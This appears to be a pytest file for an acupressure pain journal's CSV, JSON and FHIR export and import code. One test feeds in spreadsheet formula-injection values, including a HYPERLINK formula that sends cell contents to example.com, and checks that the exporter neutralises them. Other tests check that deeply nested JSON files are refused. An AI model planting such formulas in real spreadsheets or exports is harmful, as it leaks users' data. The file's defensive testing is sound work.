"""Exports of the journal: CSV rows, a JSON dump that restores exactly, FHIR pain
Observations; and a JSON file that is wrong in any way is refused whole."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from acupress import atlas, exports, records
from acupress.errors import AcupressError
from acupress.exports import Backup, Entry
from acupress.journal import Journal
from acupress.profile import Profile
from acupress.records import Event, SessionLog, StepLog
from tests.postgresql import Server

TZ = dt.timezone(dt.timedelta(hours=1))
T0 = dt.datetime(2026, 3, 2, 7, 30, 5, 123456, tzinfo=TZ)  # a Monday
NOW = dt.datetime(2026, 3, 10, 20, 0, tzinfo=TZ)
TRICKY_NOTE = 'warm, then "tingling"\nsecond line\r\nthird; ü 痛 \x00 end'
CODES = atlas.default().codes


def uid_of(*parts: object) -> str:
    """A uid that is the same every time a test builds the same session."""
    return str(uuid.uuid5(uuid.NAMESPACE_URL, "/".join(map(str, parts))))


def read(data: bytes, now: dt.datetime = NOW) -> Backup:
    return exports.read_journal(data, "backup.json", now=now, codes=CODES)


def step(position: int, point: str | None, seconds: float = 60.0, skipped: bool = False) -> StepLog:
    return StepLog(
        position=position,
        step=position + 1,
        step_id=(point or "prepare").lower(),
        point=point,
        side="left" if point else None,
        pressure="moderate" if point else None,
        planned_seconds=60,
        seconds=seconds,
        skipped=skipped,
        completed_at=T0 + dt.timedelta(seconds=60 * (position + 1) + 0.25),
    )


def guided(day: int = 0, **fields: Any) -> SessionLog:
    started = T0 + dt.timedelta(days=day)
    values: dict[str, Any] = {
        "id": None,
        "uid": uid_of("guided", day),
        "started_at": started,
        "day": started.date(),
        "protocol": "low-back",
        "source": "guided",
        "decision": "modified",
        "pain_before": 6,
        "pain_after": 3,
        "points": ("BL23", "KI3"),
        "seconds": 1203,
        "steps": (
            step(0, None, 95.5),
            step(1, "BL23", 61.123456789),
            step(2, "BL25", 0.0, skipped=True),
            step(3, "KI3", 46.75),
        ),
        "sensations": ("warmth", "ache"),
        "note": TRICKY_NOTE,
        "ended_at": started + dt.timedelta(minutes=20, seconds=3),
        "complete": True,
    }
    return SessionLog(**(values | fields))


def by_hand(day: int, **fields: Any) -> SessionLog:
    started = T0.replace(hour=18, microsecond=0) + dt.timedelta(days=day)
    values: dict[str, Any] = {
        "id": None,
        "uid": uid_of("by hand", day),
        "started_at": started,
        "day": started.date(),
        "protocol": "low-back",
        "source": "manual",
        "pain_before": 5,
        "pain_after": 5,
        "seconds": 900,
        "ended_at": started + dt.timedelta(minutes=15),
        "complete": True,
    }
    return SessionLog(**(values | fields))


def stopped(day: int) -> SessionLog:
    return guided(
        day,
        pain_after=7,
        complete=False,
        stop_reason="pain_increased",
        stop_note="sharp at BL25",
        note="",
        sensations=(),
    )


ANSWERS = {"pregnant": False, "age": 52, "skin_problem_at": ["GV4"]}
PROFILE = Profile(thumb_cm=2.1, minutes=25, partner=True)


def journal_entries() -> list[Entry]:
    return [
        Entry(session=guided(0), answers=ANSWERS),
        Entry(session=by_hand(1, pain_after=None, note="no score after")),
        Entry(session=stopped(2), answers={"pregnant": False}),
        Entry(session=by_hand(3, points=("BL40",), note="")),
    ]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# --- CSV ------------------------------------------------------------------------------


def test_csv_has_a_header_and_one_readable_row_per_session() -> None:
    logs = [e.session for e in journal_entries()]
    text = exports.csv_text(logs, tz=TZ)
    assert text.splitlines()[0] == (
        "date,time,weekday,protocol,source,minutes,points,pain before,pain after,relief,"
        "sensations,outcome,note"
    )
    rows = csv_rows(text)
    assert len(rows) == 4
    first, second, third, fourth = rows
    assert first == {
        "date": "2026-03-02",
        "time": "07:30",
        "weekday": "Monday",
        "protocol": "low-back",
        "source": "guided",
        "minutes": "20.1",  # 1203 s
        "points": "BL23, KI3",
        "pain before": "6",
        "pain after": "3",
        "relief": "3",
        "sensations": "warmth, ache",
        "outcome": "completed",
        "note": TRICKY_NOTE,
    }
    assert (second["date"], second["time"], second["weekday"]) == ("2026-03-03", "18:30", "Tuesday")
    assert (second["source"], second["minutes"], second["pain after"], second["relief"]) == (
        "by hand",
        "15",
        "",
        "",
    )
    assert third["outcome"] == "stopped: pain increased (sharp at BL25)"
    assert third["relief"] == "-1"
    assert fourth["points"] == "BL40"


def test_csv_dates_and_times_are_in_the_local_zone() -> None:
    # 23:30 UTC on Sunday is already Monday morning in Tokyo.
    late = by_hand(0, started_at=dt.datetime(2026, 3, 1, 23, 30, tzinfo=dt.UTC))
    tokyo = dt.timezone(dt.timedelta(hours=9))
    (row,) = csv_rows(exports.csv_text([late], tz=tokyo))
    assert (row["date"], row["time"], row["weekday"]) == ("2026-03-02", "08:30", "Monday")


def test_minutes_keep_a_half_minute() -> None:
    (row,) = csv_rows(exports.csv_text([by_hand(0, seconds=870)], tz=TZ))
    assert row["minutes"] == "14.5"


@given(st.text())
def test_any_note_round_trips_through_csv(note: str) -> None:
    (row,) = csv_rows(exports.csv_text([by_hand(0, note=note)], tz=TZ))
    formula = note.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row["note"] == ("'" + note if formula else note)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.com/?"&A1,"more")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_text(text: str) -> None:
    log = by_hand(0, note=text, protocol=text, pain_before=3, pain_after=4)
    (row,) = csv_rows(exports.csv_text([log], tz=TZ))
    assert (row["note"], row["protocol"]) == ("'" + text, "'" + text)
    assert row["relief"] == "-1"  # a number stays a number


def test_a_stop_note_cannot_start_a_cell() -> None:
    log = replace(stopped(0), stop_note="=1+1")
    (row,) = csv_rows(exports.csv_text([log], tz=TZ))
    assert row["outcome"] == "stopped: pain increased (=1+1)"


def test_an_unknown_length_is_left_empty_not_zero() -> None:
    unknown, known = by_hand(0, seconds=0), by_hand(1, seconds=60)
    rows = csv_rows(exports.csv_text([unknown, known], tz=TZ))
    assert [row["minutes"] for row in rows] == ["", "1"]


def test_a_session_whose_every_point_was_skipped_says_so() -> None:
    skipped = guided(0, points=(), complete=False, steps=(step(0, "BL23", 3.0, skipped=True),))
    (row,) = csv_rows(exports.csv_text([skipped], tz=TZ))
    assert row["outcome"] == "no point pressed"
    assert records.outcome(replace(skipped, ended_at=None)) == "not finished"


# --- JSON -----------------------------------------------------------------------------


def test_the_json_dump_is_versioned_and_complete() -> None:
    doc = exports.journal_document(journal_entries(), PROFILE, NOW, tz=TZ)
    assert (doc["format"], doc["version"]) == ("acupress-journal", 4)
    assert doc["exported_at"] == "2026-03-10T20:00:00+01:00"
    assert doc["profile"] == asdict(PROFILE)
    assert doc["profile"] | {"thumb_cm": 2.1, "minutes": 25, "partner": True} == doc["profile"]
    first = doc["sessions"][0]
    assert first["started_at"] == "2026-03-02T07:30:05.123456+01:00"
    assert first["answers"] == ANSWERS
    assert len(first["steps"]) == 4
    assert first["steps"][1]["seconds"] == 61.123456789
    assert first["uid"] == uid_of("guided", 0)
    assert set(first) >= {
        "uid",
        "started_at",
        "day",
        "protocol",
        "source",
        "decision",
        "pain_before",
        "pain_after",
        "points",
        "seconds",
        "sensations",
        "stop_reason",
        "stop_note",
        "note",
        "ended_at",
        "complete",
        "steps",
    }


def test_the_json_dump_reads_back_exactly() -> None:
    entries = journal_entries()
    text = exports.journal_json(entries, PROFILE, NOW, tz=TZ)
    backup = read(text.encode())
    assert backup.profile == PROFILE
    assert backup.version == 4
    assert backup.exported_at == NOW
    assert list(backup.entries) == entries


@given(st.text())
def test_any_note_round_trips_through_json(note: str) -> None:
    entries = [Entry(session=by_hand(0, note=note, stop_note=note))]
    text = exports.journal_json(entries, None, NOW, tz=TZ)
    (back,) = read(text.encode()).entries
    assert (back.session.note, back.session.stop_note) == (note, note)


def as_json_dumps_writes_it(entries: list[Entry], profile: Profile | None, events: Any = ()) -> str:
    document = exports.journal_document(entries, profile, NOW, TZ, events)
    return json.dumps(document, indent=2, ensure_ascii=False)


def test_the_json_dump_is_written_exactly_as_json_dumps_writes_it() -> None:
    seen = Event(id=1, uid="e1", kind="seen_professional", at=NOW, day=NOW.date(), note="ü")
    for entries, profile, events in (
        (journal_entries(), PROFILE, (seen,)),
        (journal_entries()[:1], None, ()),
        ([], PROFILE, ()),
        ([], None, (seen, seen)),
    ):
        expected = as_json_dumps_writes_it(entries, profile, events)
        assert exports.journal_json(entries, profile, NOW, TZ, events) == expected


finite = st.floats(allow_nan=False, allow_infinity=False)


@given(
    st.text(),
    st.lists(finite | st.integers(0, 86_400), max_size=3),
    st.dictionaries(
        st.text(max_size=5),
        st.none() | st.booleans() | st.integers() | finite | st.text() | st.lists(st.text()),
    ),
)
def test_any_text_number_and_answers_are_written_as_json_dumps_writes_them(
    text: str, seconds: list[float], answers: dict[str, Any]
) -> None:
    steps = tuple(step(i, "BL23", s) for i, s in enumerate(seconds))
    log = guided(0, note=text, stop_note=text[::-1], protocol=text or "p", steps=steps)
    entries = [Entry(session=log, answers=answers), Entry(session=by_hand(1, note=text))]
    assert exports.journal_json(entries, None, NOW, TZ) == as_json_dumps_writes_it(entries, None)


@pytest.mark.parametrize(
    "seconds",
    [0.0, -0.0, 1e-4, 9.999999999999999e-05, 1e-05, 5e-324, 0.1, 1 / 3, 86_400.0, 1e16, 1e300],
)
def test_floats_at_the_edges_of_exponents_are_written_as_json_dumps_writes_them(
    seconds: float,
) -> None:
    entries = [Entry(session=guided(0, steps=(step(0, "BL23", seconds),)), answers={"x": seconds})]
    assert exports.journal_json(entries, None, NOW, TZ) == as_json_dumps_writes_it(entries, None)


def test_numbers_json_cannot_write_are_written_as_json_dumps_writes_them() -> None:
    steps = (step(0, "BL23", float("nan")), step(1, "BL23", float("inf")))
    entries = [Entry(session=guided(0, steps=steps), answers={"age": float("-inf")})]
    assert exports.journal_json(entries, None, NOW, TZ) == as_json_dumps_writes_it(entries, None)


def test_export_then_import_into_an_empty_journal_is_the_same_journal(
    tmp_path: Path, database_url: str
) -> None:
    with Journal(f"sqlite:///{tmp_path / 'one.db'}") as one:
        for e in journal_entries():
            one.add(e.session, e.answers)
        logs = one.sessions(with_steps=True)
        answers = one.answers_by_session([s.id for s in logs if s.id])
        entries = [Entry(session=s, answers=answers.get(s.id or 0)) for s in logs]
    if database_url.startswith("postgresql"):  # whose text cannot hold NUL
        with Journal(database_url) as two, pytest.raises(AcupressError, match="NUL"):
            two.import_sessions([(e.session, e.answers) for e in entries])
        logs = [replace(s, note=s.note.replace("\x00", "")) for s in logs]
        entries = [Entry(session=s, answers=answers.get(s.id or 0)) for s in logs]
    text = exports.journal_json(entries, PROFILE, NOW)
    backup = read(text.encode())
    with Journal(database_url) as two:  # on SQLite, then on PostgreSQL
        assert two.import_sessions([(e.session, e.answers) for e in backup.entries]) == (4, 0)
        back = two.sessions(with_steps=True)
        back_answers = [two.answers(s.id) for s in back if s.id]
    assert [replace(s, id=None) for s in back] == [replace(s, id=None) for s in logs]
    assert back_answers == [ANSWERS, None, {"pregnant": False}, None]
    assert back[0].steps[1].seconds == 61.123456789
    assert back[0].started_at == T0
    if database_url.startswith("sqlite"):
        assert [replace(e.session, id=None) for e in journal_entries()] == [
            replace(s, id=None) for s in back
        ]
        assert back[0].note == TRICKY_NOTE


def test_importing_twice_adds_nothing(tmp_path: Path) -> None:
    pairs = [(e.session, e.answers) for e in journal_entries()]
    with Journal(f"sqlite:///{tmp_path / 'j.db'}") as db:
        assert db.import_sessions(pairs) == (4, 0)
        assert db.import_sessions(pairs) == (0, 4)
        assert len(db.sessions()) == 4


def test_a_session_is_the_same_one_by_its_uid_alone(tmp_path: Path) -> None:
    base = by_hand(0)
    with Journal(f"sqlite:///{tmp_path / 'j.db'}") as db:
        db.add(base)
        added = db.import_sessions(
            [
                (replace(base, uid=uid_of("twin")), None),  # the same start: another session
                (replace(base, uid=uid_of("twin")), None),  # twice in the same file
                (replace(base, note="edited since"), None),  # the same uid: already there
            ]
        )
        assert added == (1, 2)
        assert [s.uid for s in db.sessions()] == [base.uid, uid_of("twin")]


def test_sessions_at_the_same_moment_all_get_their_own_uid(tmp_path: Path) -> None:
    twin = replace(by_hand(0), uid=None)
    with Journal(f"sqlite:///{tmp_path / 'j.db'}") as db:
        db.add(twin)
        db.add_many([twin, twin])
        assert db.import_sessions([(twin, None)]) == (1, 0)
        uids = [s.uid for s in db.sessions()]
    assert len(set(uids)) == 4
    assert all(uuid.UUID(u).version == 4 for u in uids if u)


def old_file(version: int = 2) -> bytes:
    """A file from an acupress before session uids: two sessions logged by hand at the
    same moment, with nothing to tell them apart."""
    doc = document()
    doc["version"] = version
    for s in doc["sessions"]:
        del s["uid"]
    doc["sessions"][3] = dict(doc["sessions"][1])
    return json.dumps(doc).encode()


def test_an_older_file_without_uids_imports_every_session_once(tmp_path: Path) -> None:
    first, again = read(old_file()), read(old_file())
    uids = [e.session.uid for e in first.entries]
    assert [e.session.uid for e in again.entries] == uids  # the same file, the same uids
    assert len(set(uids)) == 4  # the twins too
    assert read(old_file(version=1)).version == 1
    pairs = [(e.session, e.answers) for e in first.entries]
    with Journal(f"sqlite:///{tmp_path / 'j.db'}") as db:
        assert db.import_sessions(pairs) == (4, 0)
        assert db.import_sessions([(e.session, e.answers) for e in again.entries]) == (0, 4)


def test_a_file_of_this_version_needs_every_uid() -> None:
    doc = document()
    del doc["sessions"][2]["uid"]
    assert "sessions[2]: object missing required field `uid`" in refused(doc)
    doc = document()
    doc["sessions"][1]["uid"] = "not-a-uuid"
    assert "sessions[1].uid: invalid UUID" in refused(doc)


def document() -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(exports.journal_json(journal_entries(), PROFILE, NOW, TZ))
    return doc


def refused(doc: Any) -> str:
    data = doc if isinstance(doc, bytes) else json.dumps(doc).encode()
    with pytest.raises(AcupressError) as e:
        read(data)
    message = str(e.value)
    assert message.startswith("backup.json cannot be imported: ")
    assert message.endswith("nothing was imported.")
    assert "\n" not in message
    return message


def test_a_file_that_is_not_json_is_refused() -> None:
    assert "it is not JSON" in refused(b'{"format": "acupress-journal", ')
    assert "it is not JSON" in refused(b"\xff\xfe not text")


def test_a_file_of_another_format_is_refused() -> None:
    assert "format is 'something-else'" in refused(document() | {"format": "something-else"})
    assert "not an acupress journal export (expected `object`" in refused([1, 2])
    assert "missing required field `format`" in refused({"version": 1})


def test_a_newer_version_is_refused() -> None:
    message = refused(document() | {"version": 5})
    assert "made by a newer acupress (journal version 5; this one reads up to version 4" in message


def test_a_missing_or_ill_typed_field_is_named() -> None:
    doc = document()
    del doc["sessions"][1]["started_at"]
    assert "sessions[1]: object missing required field `started_at`" in refused(doc)
    doc = document()
    doc["sessions"][0]["pain_before"] = "6"
    assert "sessions[0].pain_before: expected `int | null`, got `str`" in refused(doc)
    doc = document()
    doc["sessions"][0]["steps"][2]["skipped"] = "no"
    assert "sessions[0].steps[2].skipped" in refused(doc)
    doc = document()
    doc["sessions"][0]["started_at"] = "2026-03-02T07:30:00"  # no time zone
    assert "sessions[0].started_at" in refused(doc)
    doc = document()
    doc["sessions"][0]["source"] = "remote"
    assert "sessions[0].source" in refused(doc)
    doc = document()
    doc["sessions"][0]["colour"] = "blue"
    assert "unknown field `colour`" in refused(doc)


@pytest.mark.parametrize("field", ["pain_before", "pain_after"])
@pytest.mark.parametrize("value", [-1, 11])
def test_a_pain_score_outside_0_to_10_is_refused(field: str, value: int) -> None:
    doc = document()
    doc["sessions"][2][field] = value
    assert f"sessions[2].{field} must be a pain score from 0 to 10, not {value}" in refused(doc)


def test_a_bad_profile_is_refused() -> None:
    assert "the profile is wrong (thumb_cm" in refused(document() | {"profile": {"thumb_cm": 9}})


def changed(where: str, value: Any) -> dict[str, Any]:
    """The document with one field of a session (or of one of its steps) set to value."""
    doc = document()
    target: Any = doc["sessions"]
    *path, last = where.split(".")
    for key in path:
        target = target[int(key)] if key.isdigit() else target[key]
    target[last] = value
    return doc


@pytest.mark.parametrize(
    ("where", "value", "message"),
    [
        ("1.points", ["ZZ9"], "sessions[1].points must be points of the atlas, not 'ZZ9'"),
        ("0.steps.2.point", "ZZ9", "sessions[0].steps[2].point must be a point of the atlas"),
        ("1.day", "2099-01-01", "sessions[1].day must be from 2000-01-01 to today, not 2099-01-01"),
        (
            "1.started_at",
            "2099-01-01T18:30:00+01:00",
            "sessions[1].started_at must not be in the future",
        ),
        ("1.day", "1999-12-31", "sessions[1].day must be from 2000-01-01 to today"),
        ("1.day", "2026-02-01", "sessions[1].day must be the day it started"),
        ("3.seconds", 2**63, "sessions[3].seconds must be from 0 to 86400 (a day), not 92233"),
        ("3.seconds", 86_401, "sessions[3].seconds must be from 0 to 86400 (a day), not 86401"),
        ("3.seconds", -1, "sessions[3].seconds must be from 0 to 86400"),
        ("0.steps.1.seconds", 1e300, "sessions[0].steps[1].seconds must be from 0 to 86400"),
        ("0.steps.1.planned_seconds", -60, "sessions[0].steps[1].planned_seconds must be from 0"),
        ("0.steps.1.position", -1, "sessions[0].steps[1].position must be from 0 to 999"),
        (
            "0.steps.3.completed_at",
            "2031-01-01T00:00:00+00:00",
            "sessions[0].steps[3].completed_at must not be in the future",
        ),
        ("2.ended_at", "1970-01-01T00:00:00+00:00", "sessions[2].ended_at must be from 2000"),
        ("1.note", "x" * 2001, "sessions[1].note can be at most 2000 characters, not 2001"),
        ("2.stop_note", "x" * 100_000, "sessions[2].stop_note can be at most 2000 characters"),
    ],
)
def test_an_import_checks_every_session_as_journal_add_does(
    where: str, value: Any, message: str
) -> None:
    assert message in refused(changed(where, value))


def test_a_session_on_tomorrow_in_a_zone_ahead_is_not_in_the_future() -> None:
    # 20:00 here is already the next morning in Kiribati (UTC+14).
    kiribati = dt.timezone(dt.timedelta(hours=14))
    there = NOW.astimezone(kiribati)
    ahead = replace(by_hand(0), started_at=there, day=there.date(), ended_at=None)
    text = exports.journal_json([Entry(session=ahead)], None, NOW, tz=kiribati)
    (entry,) = read(text.encode()).entries
    assert entry.session.day == dt.date(2026, 3, 11)


def test_safety_answers_are_answers_not_any_json() -> None:
    deep: Any = []
    for _ in range(50):
        deep = [deep]
    assert "sessions[0].answers" in refused(changed("0.answers", {"age": {"years": 52}}))
    assert "sessions[0].answers" in refused(changed("0.answers", {"skin_problem_at": deep}))


@pytest.mark.parametrize("depth", [1000, 100_000])
def test_json_nested_deeper_than_any_export_is_refused(depth: int) -> None:
    deep = b"[" * depth + b"]" * depth
    assert "not an acupress journal export (it is nested too deeply)" in refused(deep)
    inside = b'{"format": "acupress-journal", "version": 3, "x": ' + deep + b"}"
    assert "nested too deeply" in refused(inside)


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=8,
)
FIELDS = [
    f"{i}.{name}"
    for i, s in enumerate(
        json.loads(exports.journal_json(journal_entries(), None, NOW, TZ))["sessions"]
    )
    for name in s
] + ["0.steps.1.seconds", "0.steps.1.point", "0.steps.0.completed_at", "2.steps.3.step"]


@given(st.sampled_from(FIELDS), JSON_VALUES)
def test_any_value_in_any_field_is_imported_or_refused_in_one_sentence(
    where: str, value: Any
) -> None:
    data = json.dumps(changed(where, value)).encode()
    try:
        read(data)
    except AcupressError as e:
        assert str(e).startswith("backup.json cannot be imported: ")
        assert "\n" not in str(e)


# --- FHIR -----------------------------------------------------------------------------


def fhir_of(logs: list[SessionLog], tz: dt.tzinfo = TZ) -> dict[str, Any]:
    return exports.fhir_bundle(logs, tz=tz)


def test_the_fhir_bundle_validates_and_has_two_observations_per_scored_session() -> None:
    from fhir.resources.R4B.bundle import Bundle

    logs = [e.session for e in journal_entries()]
    bundle = fhir_of(logs)
    assert (bundle["resourceType"], bundle["type"]) == ("Bundle", "collection")
    parsed = Bundle.model_validate_json(json.dumps(bundle))
    assert parsed.entry is not None
    # Three sessions with both scores, one with only the score before.
    assert len(bundle["entry"]) == 2 * 3 + 1
    for entry in bundle["entry"]:
        obs = entry["resource"]
        assert obs["resourceType"] == "Observation"
        assert entry["fullUrl"] == f"urn:uuid:{uuid.UUID(obs['id'])}"
        assert obs["status"] == "final"
        assert obs["category"][0]["coding"][0] == {
            "system": "http://terminology.hl7.org/CodeSystem/observation-category",
            "code": "survey",
            "display": "Survey",
        }
        assert obs["code"]["coding"][0]["system"] == "http://loinc.org"
        assert obs["code"]["coding"][0]["code"] == "72514-3"
        assert obs["effectiveDateTime"].endswith("+01:00")
        assert isinstance(obs["valueInteger"], int)
        assert obs["identifier"][0]["value"] == entry["fullUrl"]


def test_before_is_at_the_start_and_after_at_the_end() -> None:
    before, after = (e["resource"] for e in fhir_of([guided(0)])["entry"])
    assert (before["valueInteger"], after["valueInteger"]) == (6, 3)
    assert before["effectiveDateTime"] == "2026-03-02T07:30:05+01:00"
    assert after["effectiveDateTime"] == "2026-03-02T07:50:08+01:00"
    assert before["note"][0]["text"].startswith("Pain before a self-acupressure session")
    assert after["note"][0]["text"].startswith("Pain after a self-acupressure session")
    assert before["id"] != after["id"]


def test_sessions_at_the_same_moment_have_observations_of_their_own() -> None:
    twins = [by_hand(0), by_hand(0, uid=uid_of("twin"))]
    ids = {e["resource"]["id"] for e in fhir_of(twins)["entry"]}
    assert len(ids) == 4


def test_the_same_journal_gives_the_same_bundle() -> None:
    logs = [e.session for e in journal_entries()]
    assert exports.fhir_json(logs, TZ) == exports.fhir_json(logs, TZ)
    ids = {e["resource"]["id"] for e in fhir_of(logs)["entry"]}
    assert len(ids) == 7


def test_a_session_without_scores_gives_no_observation() -> None:
    bundle = fhir_of([by_hand(0, pain_before=None, pain_after=None)])
    assert bundle.get("entry", []) == []


@pytest.mark.parametrize(
    ("name", "fmt"),
    [
        ("j.csv", "csv"),
        ("J.JSON", "json"),
        ("j.fhir.json", "fhir"),
        ("j.fhir", "fhir"),
        ("j.txt", None),
    ],
)
def test_the_format_follows_the_file_name(name: str, fmt: str | None) -> None:
    assert exports.format_for(name) == fmt


def test_an_older_file_restored_into_its_own_journal_adds_nothing(tmp_path: Path) -> None:
    """The journal's sessions got new uids when it was brought up to date; the file's
    sessions, from before uids, are known by their content, twins counted as twins."""
    import uuid

    import sqlalchemy as sa

    pairs = [(e.session, e.answers) for e in read(old_file()).entries]
    with Journal(f"sqlite:///{tmp_path / 'j.db'}") as db:
        assert db.import_sessions(pairs, by_content=True) == (4, 0)  # the twins stay two
        with db.engine.begin() as conn:
            for (session_id,) in conn.execute(sa.text("SELECT id FROM sessions")).all():
                conn.execute(
                    sa.text("UPDATE sessions SET uid = :uid WHERE id = :id"),
                    {"uid": str(uuid.uuid4()), "id": session_id},
                )
        assert db.import_sessions(pairs, by_content=True) == (0, 4)
        assert len(db.sessions()) == 4


def test_daily_ratings_are_fhir_observations_with_their_three_answers() -> None:
    import uuid as uuid_module

    from acupress.records import DailyRating

    rating = DailyRating(
        id=None,
        uid=str(uuid_module.uuid4()),
        day=dt.date(2026, 3, 2),
        pain=6,
        enjoyment=4,
        activity=5,
        rated_at=dt.datetime(2026, 3, 2, 20, 30, tzinfo=dt.UTC),
    )
    bundle = exports.fhir_bundle([], ratings=[rating])
    (entry,) = bundle["entry"]
    observation = entry["resource"]
    assert observation["valueQuantity"]["value"] == 5.0  # (6 + 4 + 5) / 3
    assert observation["effectiveDateTime"] == "2026-03-02"
    items = {c["code"]["text"]: c["valueInteger"] for c in observation["component"]}
    assert items == {
        "PEG item 1: average pain (0-10)": 6,
        "PEG item 2: pain's interference with enjoyment of life (0-10)": 4,
        "PEG item 3: pain's interference with general activity (0-10)": 5,
    }
    pain = observation["component"][0]["code"]["coding"][0]
    assert (pain["system"], pain["code"]) == ("http://loinc.org", "72514-3")
    again = exports.fhir_bundle([], ratings=[rating])["entry"][0]["resource"]["id"]
    assert again == observation["id"]  # the same rating, the same observation


def test_a_rating_in_an_import_is_checked_like_any() -> None:
    doc = document()
    doc["ratings"] = [
        {
            "uid": "8b2d5f8e-0f0e-4a55-9d5a-1d2c3b4a5f60",
            "day": "2026-03-01",
            "pain": 11,
            "enjoyment": 2,
            "activity": 2,
            "rated_at": "2026-03-01T20:00:00+01:00",
        }
    ]
    assert "ratings[0]: the pain answer must be a whole number from 0 to 10, not 11" in refused(doc)


def test_a_journal_moved_to_a_server_is_all_in_the_persons_account_and_no_other(
    tmp_path: Path, postgresql: Server
) -> None:
    from acupress.records import DailyRating, TrialRecord
    from tests.test_journal_owners import add_account

    seen = Event(id=None, uid=uid_of("seen"), kind="seen_professional", at=T0, day=T0.date())
    rated = DailyRating(
        id=None, uid=uid_of("r"), day=T0.date(), pain=4, enjoyment=5, activity=6, rated_at=T0
    )
    trial = TrialRecord(id=None, uid=uid_of("t"), start=T0.date(), weeks=6, seed=9, created_at=T0)
    with Journal(f"sqlite:///{tmp_path / 'mine.db'}") as mine:
        for e in journal_entries():
            mine.add(replace(e.session, note=e.session.note.replace("\x00", "")), e.answers)
        mine.add_event(seen), mine.add_rating(rated), mine.add_trial(trial)
        entries = [
            Entry(session=s, answers=a) for s, a in mine.entries(with_steps=True, with_answers=True)
        ]
        text = exports.journal_json(
            entries,
            PROFILE,
            NOW,
            events=mine.events(),
            ratings=mine.ratings(),
            trials=mine.trials(),
        )
    backup = read(text.encode())
    url = postgresql.fresh()
    person, other = add_account(url, "sam"), add_account(url, "kim")
    with Journal(url, owner=person) as server, Journal(url, owner=other) as neighbour:
        for _ in range(2):  # a second import adds nothing
            server.import_sessions(
                [(e.session, e.answers) for e in backup.entries],
                backup.events,
                new_ratings=backup.ratings,
                new_trials=backup.trials,
            )
        moved = list(server.entries(with_steps=True, with_answers=True))
        assert [(replace(s, id=None), a) for s, a in moved] == [
            (replace(e.session, id=None), e.answers) for e in entries
        ]
        assert [replace(e, id=None) for e in server.events()] == [seen]
        assert [replace(r, id=None) for r in server.ratings()] == [rated]
        assert [replace(t, id=None) for t in server.trials()] == [trial]
        assert neighbour.sessions() == [] and neighbour.events() == []
        assert neighbour.ratings() == [] and neighbour.trials() == []
    postgresql.drop(url)
